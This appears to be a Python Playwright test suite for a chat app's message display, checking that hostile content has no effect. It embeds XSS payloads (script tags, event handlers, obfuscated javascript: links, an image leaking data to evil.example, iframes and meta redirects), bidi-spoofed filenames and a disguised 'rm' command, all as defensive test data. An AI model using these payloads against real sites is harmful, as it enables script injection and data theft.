"""The content of messages: Markdown, files, edits, and hostile text."""

import base64
import struct
import zlib
from pathlib import Path

import apsw
import pytest
from playwright.sync_api import expect

from tests.web.browser import Api, Tab, Visit
from tests.web.proxy import proxied

HOSTILE = {
    "a script": "<script>window.pwned = 1</script>",
    "an event handler": '<img src=x onerror="window.pwned = 1"><svg onload="window.pwned = 1">',
    "a javascript link": "[click](javascript:window.pwned=1) <javascript:window.pwned=1> "
    "[click](JaVaScRiPt&#58;window.pwned=1) [click](\x01javascript:window.pwned=1)",
    "a link to a page inside": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
    "an image from elsewhere": "![secret](https://evil.example/?q=secret) "
    "![x](//evil.example/x.png) ![rel](/chat/s/stop)",
    "a frame and a form": '<iframe src="https://evil.example"></iframe>'
    '<form action="/sessions" method="post"><button>ok</button></form>'
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
    "a style": "<style>* { display: none }</style><div style='position:fixed;inset:0'>over</div>",
    "a huge line": "x" * 60_000,
    "a huge line in code": "```\n" + "y" * 60_000 + "\n```",
    "marks that turn text around": "user\u202egnp.exe\u202c and \u2066hidden\u2069 \u200fend",
    "combining marks": "z" + "\u0335\u0336\u0337" * 300,
    "broken Markdown": "**bold _it [link](( ![ ``` ~~ | a | b\n|--\n> > > - * 1. \n[a]: <\n```py\nopen",
    "deep quotes": ">" * 5_000 + " deep",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(400)),
    "many brackets": "[" * 15_000 + "a" + "](" * 5_000,
    "many stars": "*a_ " * 4_000,
    "a wide table": "|" + " a |" * 300 + "\n|" + " - |" * 300 + "\n|" + " b |" * 300,
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#x3C;img src=x onerror=pwned=1&#x3E;",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_text_has_no_effect(tab: Tab, api: Api, kind: str) -> None:
    text = HOSTILE[kind]
    api.store("s", "user", {"type": "text", "content": text})
    api.store(
        "s",
        "assistant",
        {"type": "reasoning", "content": text},
        {
            "type": "tool-call",
            "toolCallId": "1",
            "toolName": text[:100],
            "toolInput": {"command": text},
            "state": "error",
            "toolOutput": text,
            "error": text,
        },
        {"type": "text", "content": text},
    )
    api.http.patch("/sessions/s", json={"title": text[:500]})
    tab.open("s")
    expect(tab.answers).to_have_count(1)
    for block in tab.answers.locator("details").all():
        block.locator("summary").click()
    expect(tab.answers.get_by_label("Input")).to_be_visible()
    for link in tab.answers.get_by_text("click", exact=True).all():
        link.click(timeout=2_000)
    # The page still works and is as wide as before.
    tab.say("still there?")
    tab.is_answered("still there?")
    does_nothing(tab)


def test_hostile_parts_have_no_effect(tab: Tab, api: Api) -> None:
    evil = "javascript:window.pwned=1"
    page = "data:text/html,<script>window.pwned=1</script>"
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'><script>1</script></svg>"
    api.store(
        "s",
        "assistant",
        {"type": "source", "url": evil, "title": "a source"},
        {"type": "file", "mediaType": "text/html", "url": evil, "filename": "a.html"},
        {"type": "file", "mediaType": "text/html", "url": page, "filename": "b.html"},
        {"type": "file", "mediaType": "image/png", "url": "https://evil.example/i.png"},
        {"type": "file", "mediaType": "image/svg+xml", "url": f"data:image/svg+xml,{svg}"},
        {"type": "data", "name": "plan", "data": [{"content": "<b>x", "status": "constructor"}]},
        {"type": "data", "name": "__proto__", "data": {"__proto__": [1]}},
        {"type": "tool-result", "toolName": "<i>", "toolOutput": "<script>", "state": "odd"},
        {"type": "text", "content": "the end"},
    )
    tab.open("s")
    expect(tab.answers).to_contain_text("the end")
    expect(tab.page.get_by_role("link", name="a source")).to_have_count(0)
    expect(tab.page.get_by_role("link", name="a.html")).to_have_count(0)
    expect(tab.page.get_by_role("link", name="b.html")).to_have_attribute("download", "b.html")
    does_nothing(tab)


def does_nothing(tab: Tab) -> None:
    """No script ran or was created, and the page is as wide as its window."""
    page = tab.page
    assert page.evaluate("() => window.pwned") is None
    assert page.locator("#page").locator("script, iframe, object, form[action], style").count() == 0
    attributes = page.evaluate(
        "() => [...document.querySelectorAll('#page *')].flatMap((e) => e.getAttributeNames())"
    )
    assert [name for name in attributes if name.startswith("on")] == []
    addresses = page.eval_on_selector_all("#page [href]", "links => links.map(a => a.href)")
    schemes = {address.partition(":")[0] for address in addresses}
    assert schemes <= {"http", "https", "mailto", "data"}
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate("document.querySelector('.scroller').scrollWidth <= innerWidth")
    assert page.url.startswith(tab.url)


def test_the_page_shows_the_rest_whatever_is_stored(visit: Visit, api: Api, tmp_path: Path) -> None:
    """A date that no calendar has, and parts that are none: written by another program."""
    for text in ("first", "second", "third"):
        api.store("s", "user", {"type": "text", "content": text})
    database = apsw.Connection(str(tmp_path / "sessile.db"))
    for place, value, seq in (
        ("$.createdAt", "1000000000000000000", 1),
        ("$.parts", "[null, 7]", 2),
    ):
        database.execute(
            "UPDATE messages SET body = CAST(json_replace(CAST(body AS TEXT), ?, json(?)) AS BLOB)"
            " WHERE seq = ?",
            (place, value, seq),
        )
    database.execute("UPDATE sessions SET updated_at = 1000000000000000000")
    database.close()
    tab = visit().tab()
    tab.open("s")
    messages = tab.page.get_by_role("log")
    expect(messages.get_by_text("first")).to_be_visible()
    expect(messages.get_by_text("This message cannot be shown.")).to_be_visible()
    expect(messages.get_by_text("third")).to_be_visible()


def test_invisible_characters_are_shown_where_people_decide(
    tab: Tab, api: Api, tmp_path: Path
) -> None:
    turned = "annex\u202egnp.exe"
    shown = "annex⟨U+202E⟩gnp.exe"
    file = {"type": "file", "mediaType": "text/plain", "url": "data:,a", "filename": turned}
    plan = [{"content": f"rm {turned}", "status": "pending"}]
    api.store("s", "user", file, {"type": "text", "content": "read it"})
    api.store(
        "s",
        "assistant",
        {"type": "data", "name": "plan", "data": plan},
        {"type": "text", "content": f"run `{turned}`"},
    )
    api.http.patch("/sessions/s", json={"title": turned})
    tab.open("s")
    expect(tab.page).to_have_title(shown)
    expect(tab.page.get_by_role("heading", level=1)).to_have_text(shown)
    expect(tab.sent.get_by_role("link")).to_have_attribute("download", shown)
    expect(tab.answers.get_by_role("listitem")).to_contain_text(shown)
    expect(tab.answers.locator("code")).to_have_text(shown)
    (tmp_path / turned).write_text("a")
    tab.page.get_by_label("Files to attach").set_input_files(tmp_path / turned)
    expect(tab.page.get_by_role("list", name="Attached files")).to_have_text(shown)
    tab.choose(shown, "Delete")
    expect(tab.page.get_by_role("dialog")).to_contain_text(f"“{shown}”")
    tab.page.keyboard.press("Escape")
    tab.say("[[ask]] rm \u202e/ \u3164 fr-")
    asked = tab.page.get_by_role("region", name="echo asks")
    expect(asked.get_by_label("What it wants to do")).to_contain_text("rm ⟨U+202E⟩/ ⟨U+3164⟩ fr-")
    asked.get_by_role("button", name="Deny").click()


def test_what_is_wide_scrolls_or_breaks_in_its_place(tab: Tab, api: Api) -> None:
    columns = [f"column{number}" * 3 for number in range(9)]
    table = f"|{'|'.join(columns)}|\n|{'-|' * 9}\n|{'|'.join(columns)}|"
    call = {"type": "tool-call", "toolCallId": "1", "toolName": "w" * 200, "state": "complete"}
    api.store(
        "s",
        "assistant",
        {"type": "text", "content": table},
        {**call, "toolInput": {"f" * 300: "v" * 300}, "toolOutput": "a\tb"},
    )
    tab.open("s")
    tab.answers.locator("summary").click()
    assert tab.answers.locator("dt").evaluate("name => name.scrollWidth <= name.clientWidth")
    scrolled = "table => table.scrollWidth > table.clientWidth + 200"
    assert tab.answers.get_by_role("group", name="Table").evaluate(scrolled)
    does_nothing(tab)


def test_the_content_security_policy_blocks_everything_else(tab: Tab, api: Api) -> None:
    tab.open()
    policy = api.http.get("/").headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert "*" not in policy
    # The browser enforces the policy.
    ran = tab.page.evaluate(
        """async () => {
            const refused = new Promise((done) =>
                addEventListener('securitypolicyviolation', (e) => done(e.effectiveDirective)));
            const image = new Image();
            image.src = 'https://evil.example/x.png';
            return await refused;
        }"""
    )
    assert ran == "img-src"
    # The blocked request and the error that the browser reported for it.
    tab.elsewhere.clear()
    tab.faults.clear()


def test_the_api_can_be_tried_out_under_its_policy_and_below_a_path(tab: Tab) -> None:
    with proxied(tab.url, "/ai") as proxy:
        tab.url = proxy.url
        tab.page.goto(f"{proxy.url}/docs")
        tab.page.get_by_text("Whether it is alive.").click()
        tab.page.get_by_role("button", name="Try it out").click()
        tab.page.get_by_role("button", name="Execute").click()
        answer = tab.page.locator(".live-responses-table .response").first
        expect(answer).to_contain_text('"ok"')


def test_code_is_highlighted_and_can_be_copied(visit: Visit, api: Api) -> None:
    tab = visit(permissions=["clipboard-read", "clipboard-write"]).tab()
    code = 'def f(x):\n    return "a"  # b'
    api.send("s", f"Look:\n\n```python\n{code}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    tab.open("s")
    block = tab.answers.locator("figure")
    expect(block.locator(".hljs-keyword").first).to_have_text("def")
    block.get_by_role("button", name="Copy code").click()
    expect(block.get_by_role("button", name="Copied")).to_be_visible()
    assert tab.page.evaluate("navigator.clipboard.readText()") == code
    expect(tab.answers.get_by_role("cell")).to_have_text(["1", "2"])
    expect(block.get_by_role("button", name="Copy code")).to_be_visible()
    tab.answers.get_by_role("button", name="Copy", exact=True).click()
    expect(tab.answers.get_by_role("button", name="Copied")).to_be_visible()
    assert tab.page.evaluate("navigator.clipboard.readText()") == api.messages("s")[1]["content"]


def test_links_open_in_a_new_tab_and_only_embedded_images_are_shown(tab: Tab, api: Api) -> None:
    api.send(
        "s", f"[docs](https://example.org/a) ![dot]({png(2, 2)}) ![far](https://example.org/i)"
    )
    tab.open("s")
    link = tab.answers.get_by_role("link", name="docs")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")
    image = tab.answers.get_by_role("img", name="dot")
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 2
    expect(tab.answers.get_by_role("link", name="far")).to_have_attribute(
        "href", "https://example.org/i"
    )


def test_files_and_images_are_sent(tab: Tab, api: Api, tmp_path: Path) -> None:
    (tmp_path / "note.txt").write_text("a note")
    (tmp_path / "dot.png").write_bytes(base64.b64decode(png(4, 3).partition(",")[2]))
    tab.open("s")
    chooser = tab.page.get_by_label("Files to attach")
    chooser.set_input_files([tmp_path / "note.txt", tmp_path / "dot.png"])
    attached = tab.page.get_by_role("list", name="Attached files")
    expect(attached.get_by_role("listitem")).to_have_text(["note.txt", "dot.png"])
    tab.say("what are these?")
    tab.is_answered("what are these?")
    parts = api.messages("s")[0]["parts"]
    assert [part["type"] for part in parts] == ["file", "file", "text"]
    assert [part.get("mediaType") for part in parts] == ["text/plain", "image/png", None]
    assert base64.b64decode(parts[0]["url"].partition(",")[2]) == b"a note"
    expect(tab.sent.get_by_role("img", name="dot.png")).to_be_visible()
    expect(tab.sent.get_by_role("link", name="note.txt")).to_have_attribute("download", "note.txt")


def test_a_large_image_is_made_smaller_and_a_large_file_is_refused(
    tab: Tab, api: Api, tmp_path: Path
) -> None:
    (tmp_path / "big.png").write_bytes(base64.b64decode(png(2400, 1800, noise=True).split(",")[1]))
    (tmp_path / "big.bin").write_bytes(bytes(800_000))
    tab.open("s")
    chooser = tab.page.get_by_label("Files to attach")
    chooser.set_input_files([tmp_path / "big.bin"])
    expect(tab.page.get_by_role("alert")).to_contain_text("big.bin is too large")
    chooser.set_input_files([tmp_path / "big.png"])
    expect(tab.page.get_by_role("list", name="Attached files")).to_contain_text("big.png")
    tab.say("look")
    tab.is_answered("look")
    assert api.messages("s")[0]["parts"][0]["mediaType"] == "image/jpeg"
    image = tab.sent.get_by_role("img", name="big.png")
    assert image.evaluate("image => image.decode().then(() => image.naturalWidth)") == 1600


def test_an_edit_replaces_what_came_after(visit: Visit, api: Api) -> None:
    for text in ("one", "two", "three"):
        api.send("s", text)
    tab, other = visit().tab().open("s"), visit().tab().open("s")
    expect(other.articles).to_have_count(6)
    tab.composer.fill("a draft")
    question = tab.sent.filter(has_text="two")
    question.hover()
    question.get_by_role("button", name="Edit").click()
    expect(tab.composer).to_have_value("two")
    tab.composer.press("Escape")
    expect(tab.composer).to_have_value("a draft")
    question.hover()
    question.get_by_role("button", name="Edit").click()
    tab.say("two and a half")
    for watcher in (tab, other):
        watcher.is_answered("two and a half")
        expect(watcher.articles).to_have_count(4)
    assert [m["content"] for m in api.messages("s")][2:] == ["two and a half"] * 2
    expect(tab.composer).to_have_value("a draft")


def test_an_answer_is_regenerated(visit: Visit, api: Api) -> None:
    api.send("s", "one")
    api.send("s", "two")
    before = [message["id"] for message in api.messages("s")]
    tab, other = visit().tab().open("s"), visit().tab().open("s")
    tab.answers.last.get_by_role("button", name="Answer again").click()
    expect(tab.page.locator(f'[data-id="{before[3]}"]')).to_have_count(0)
    expect(other.page.locator(f'[data-id="{before[3]}"]')).to_have_count(0)
    tab.is_answered("two")
    other.is_answered("two")
    # The messages after an earlier answer would be lost, so the user must confirm.
    tab.answers.first.hover()
    tab.answers.first.get_by_role("button", name="Answer again").click()
    tab.page.get_by_role("dialog").get_by_role("button", name="Answer again").click()
    expect(tab.articles).to_have_count(2)
    tab.is_answered("one")
    expect(other.articles).to_have_count(2)
    assert api.messages("s")[0]["id"] == before[0]


def test_a_plan_is_a_list_and_a_question_has_its_options(tab: Tab, api: Api) -> None:
    steps = [
        {"content": "look", "status": "completed", "priority": "high"},
        {"content": "write", "status": "in_progress", "priority": "high"},
    ]
    api.store("s", "assistant", {"type": "data", "name": "plan", "data": steps})
    tab.open("s")
    plan = tab.answers.get_by_role("list", name="Plan")
    expect(plan.get_by_role("listitem")).to_have_text(["look", "write"])
    expect(plan.get_by_role("img", name="completed")).to_have_count(1)


def test_right_to_left_text_is_aligned_to_the_right(tab: Tab, api: Api) -> None:
    api.send("s", "שלום עולם\n\nand English")
    tab.open("s")
    paragraphs = tab.answers.locator("p")
    expect(paragraphs).to_have_count(2)
    edges = paragraphs.evaluate_all(
        """all => all.map((p) => {
            const range = document.createRange();
            range.selectNodeContents(p);
            const text = range.getBoundingClientRect(), box = p.getBoundingClientRect();
            return Math.round(text.left - box.left) > Math.round(box.right - text.right);
        })"""
    )
    assert edges == [True, False]


def png(width: int, height: int, noise: bool = False) -> str:
    """An image as a data: URL; noise cannot be compressed."""
    seed = 1
    rows = bytearray()
    for _ in range(height):
        rows.append(0)
        for _ in range(width):
            seed = (seed * 1103515245 + 12345) & 0x7FFFFFFF
            rows += seed.to_bytes(4, "big")[1:] if noise else b"\x0f\x76\x6e"

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = zlib.compress(bytes(rows), 1)
    data = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )
    return "data:image/png;base64," + base64.b64encode(data).decode()
